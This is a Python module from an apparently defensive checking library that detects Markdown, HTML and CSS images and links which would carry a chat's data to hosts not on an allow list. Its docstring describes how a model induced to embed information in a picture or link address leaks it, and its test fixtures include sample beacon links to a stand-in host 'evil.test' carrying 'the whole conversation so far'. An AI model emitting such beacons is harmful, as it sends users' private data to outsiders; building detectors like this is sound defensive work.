"""The detectors of addresses that a text must not lead to, and of those that carry data away.

A model that is told to put what it knows into the address of a picture or a link sends it to whoever owns the host, as
soon as a chat shows the picture or unfurls the link.
"""

from __future__ import annotations

import re
from bisect import bisect_left
from collections.abc import Callable, Iterable, Iterator
from typing import Annotated

import msgspec

from seatrial.checks.define import Example, builtin, failed, passed
from seatrial.checks.detectors.carried import Carried
from seatrial.checks.detectors.hosts import LONGEST, Host, addresses, is_allowed, is_one_of
from seatrial.checks.holdback import Holdback
from seatrial.core.verdict import Verdict

Hosts = Annotated[
    Annotated[list[Host], msgspec.Meta(min_length=1)] | None,
    msgspec.Meta(description="hosts that may be linked to: example.com, or *.example.com for those under it"),
]


@builtin(
    "urls",
    kind="detector",
    example=Example(
        "urls: {allow: [example.com, '*.example.org']}",
        passes=["see https://example.com/a?b=c", "docs.example.org has it", "version 1.2.3 of main.py"],
        fails=["see http://example.net", "https://example.com@evil.test/", "go to www.evil.test"],
    ),
    holdback=lambda **_: Holdback(bound=LONGEST + 1, before=1),
)
def urls(
    text: str,
    *,
    allow: Hosts = None,
    bare: Annotated[
        bool, msgspec.Meta(description="false: addresses without a scheme (example.net/x) are passed over")
    ] = True,
) -> Verdict:
    """Every address in the text leads to a host that is allowed; without `allow` none does.

    The host is read as a browser reads it: what stands before an @ is no host, and neither case, percent signs nor
    full-width letters hide one. Addresses with javascript: and data: lead to no host, and fail.
    """
    if ":" not in text and "." not in text:
        return passed()
    spans = [
        (start, end, "url")
        for start, end, address in addresses(text, bare=bare)
        if not is_allowed(address[: end - start], allow or [])
    ]
    if not spans:
        return passed()
    count = "an address" if len(spans) == 1 else f"{len(spans):,} addresses"
    return failed(f"has {count} to a host that is not allowed", spans=spans, label="url")


_TARGET = rf"[ \t]{{0,8}}<?([^\s<>()\"']{{1,{LONGEST}}})"
_INLINE = re.compile(r"\]\(" + _TARGET)
_DEFINITION = re.compile(r"^[ ]{0,3}\[([^\[\]\n]{1,200})\]:" + _TARGET, re.MULTILINE)
_LOADED = re.compile(
    r"(?i)<(?:img|image|iframe|embed|object|audio|video|source|track|link|script|input|body|picture|form|base)\b"
    rf"[^<>]{{0,600}}?\b(?:src|href|data|poster|srcset|background|action)[ \t]{{0,4}}=[ \t]{{0,4}}"
    rf"[\"']?([^\s\"'<>]{{1,{LONGEST}}})"
)
_STYLE = re.compile(rf"(?i)(?:\burl\([ \t]{{0,4}}[\"']?|@import[ \t]{{1,4}}[\"'])([^\s\"'()<>]{{1,{LONGEST}}})")
_REFRESH = re.compile(rf"(?i)<meta\b[^<>]{{0,300}}?\burl[ \t]{{0,4}}=[ \t]{{0,4}}[\"']?([^\s\"'<>]{{1,{LONGEST}}})")
_PICTURE = re.compile(r"!\[([^\[\]\n]{0,200})\](?:\[([^\[\]\n]{0,200})\])?(?![(\[:])")
"""A picture whose address stands elsewhere, at a definition of its name."""

_APART = 2_000
"""Code points that a picture and the definition of its name may stand apart for one to be told by the other."""

_TEXT_BEFORE = 400
"""Code points that the text of a link or picture may have for it to be told which of the two it is."""

_BEFORE = max(_TEXT_BEFORE + 2, _APART)
_BOUND = LONGEST + 1_024

_IN_ADDRESS = r"[^\s()<>]{0,80}"
_TITLE = r"(?:[ \t\n]{1,8}(?:\"[^\"\n]{0,100}\"|'[^'\n]{0,100}'|\([^()\n]{0,100}\)))?"
_INLINE_END = re.compile(rf"{_IN_ADDRESS}(?:\({_IN_ADDRESS}\){_IN_ADDRESS}){{0,2}}>?{_TITLE}[ \t]{{0,8}}\)")
_DEFINITION_END = re.compile(rf">?{_TITLE}")
_LOADED_END = re.compile(r"[^<>]{0,300}>(?:\s{0,2}</[A-Za-z]{1,8}>)?")
_STYLE_END = re.compile(r"[\"']?(?:[ \t]{0,4}\))?")
"""What is left of each behind its address, up to where it ends, so that nothing stays where it is redacted."""


@builtin(
    "markdown-exfiltration",
    kind="detector",
    example=Example(
        "markdown-exfiltration: {allow: [cdn.example.com]}",
        passes=[
            "![logo](https://cdn.example.com/logo.png)",
            "[docs](https://example.org/start)",
            "![x](data:image/png;base64,AA==)",
        ],
        fails=["![x](https://evil.test/p.png)", "[more](https://evil.test/?q=the+whole+conversation+so+far)"],
    ),
    holdback=lambda **_: Holdback(bound=_BOUND, before=_BEFORE),
)
def markdown_exfiltration(text: str, *, allow: Hosts = None) -> Verdict:
    """No picture is loaded from a host that is not allowed, and no link to one carries data.

    Pictures and whatever else loads by itself, in Markdown, HTML and CSS, fail for the host alone; a picture by
    reference where its definition stands within 2,000 characters. Links fail when their query, fragment, a part of
    their path or their host name is long enough to carry data away.
    """
    if "](" not in text and ":" not in text and "<" not in text and "//" not in text:
        return passed()
    spans = sorted(set(_leaks(text, allow or [])))
    if not spans:
        return passed()
    labels = sorted({label for _, _, label in spans})
    words = {
        "image-beacon": "loads something from a host that is not allowed",
        "link-beacon": "has a link that carries data",
    }
    return failed(" and ".join(words[label] for label in labels), spans=spans, label=labels[0])


def _leaks(text: str, allow: list[Host]) -> Iterator[tuple[int, int, str]]:
    carried = Carried(text)
    opening = _openings(text)
    for match in _INLINE.finditer(text):
        led = carried.host(*match.span(1))
        if led is None or is_one_of(led[0], allow):
            continue
        begin = opening(match.start())
        if begin and text[begin - 1] == "!":
            yield begin - 1, _end(_INLINE_END, match), "image-beacon"
        elif carried.carries(led[1], match.end(), led[0]):
            yield begin, _end(_INLINE_END, match), "link-beacon"
    for pattern, rest in ((_LOADED, _LOADED_END), (_REFRESH, _LOADED_END), (_STYLE, _STYLE_END)):
        for match in pattern.finditer(text):
            led = carried.host(*match.span(1))
            if led is not None and not is_one_of(led[0], allow):
                yield match.start(), _end(rest, match), "image-beacon"
    pictures = list(_PICTURE.finditer(text))
    shown = _Places((match.start(), match[2] or match[1]) for match in pictures)
    foreign = _Places()
    for match in _DEFINITION.finditer(text):
        led = carried.host(*match.span(2))
        if led is None or is_one_of(led[0], allow):
            continue
        foreign.add(match.start(), match[1])
        if shown.has_near(match.start(), match[1]):
            yield match.start(), _end(_DEFINITION_END, match), "image-beacon"
        elif carried.carries(led[1], match.end(), led[0]):
            yield match.start(), _end(_DEFINITION_END, match), "link-beacon"
    for match in pictures:
        if foreign.has_near(match.start(), match[2] or match[1]):
            yield match.start(), match.end(), "image-beacon"
    for start, end, address in addresses(text, bare=False):
        led = carried.host(start, end)
        if led is not None and carried.carries(led[1], start + len(address), led[0]) and not is_one_of(led[0], allow):
            yield start, end, "link-beacon"


class _Places:
    """Where names stand, in the order in which they are added; case and white space of a name do not matter."""

    def __init__(self, given: Iterable[tuple[int, str]] = ()) -> None:
        self._by_name: dict[str, list[int]] = {}
        for place, name in given:
            self.add(place, name)

    def add(self, place: int, name: str) -> None:
        self._by_name.setdefault(_plain(name), []).append(place)

    def has_near(self, place: int, name: str) -> bool:
        """Whether the name stands before `place`, less than _APART away: a place that far is the first of a window,
        where what stands before it is not known.
        """
        places = self._by_name.get(_plain(name), ())
        before = bisect_left(places, place)
        return before > 0 and place - places[before - 1] < _APART


def _plain(name: str) -> str:
    return " ".join(name.split()).casefold()


def _end(rest: re.Pattern[str], match: re.Match[str]) -> int:
    """Where that ends of which `match` is the part up to the end of its address; there if it does not end soon."""
    found = rest.match(match.string, match.end())
    return found.end() if found is not None else match.end()


def _openings(text: str) -> Callable[[int], int]:
    """Where the text of a link begins, by the place of the bracket it ends with; that bracket if nowhere near. Brackets
    are paired once, when first asked for.
    """
    pairs: dict[int, int] = {}
    paired = False

    def opening(closing: int) -> int:
        nonlocal paired
        if not paired:
            pairs.update(_pairs(text))
            paired = True
        begin = pairs.get(closing, closing)
        return begin if closing - begin < _TEXT_BEFORE else closing

    return opening


def _pairs(text: str) -> Iterator[tuple[int, int]]:
    """(closing, opening) of every bracket that another closes, those of links only."""
    opened: list[int] = []
    for bracket in _BRACKETS.finditer(text):
        place = bracket.start()
        if text[place] == "[":
            opened.append(place)
        elif opened:
            begin = opened.pop()
            if text.startswith("(", place + 1):
                yield place, begin


_BRACKETS = re.compile(r"[\[\]]")
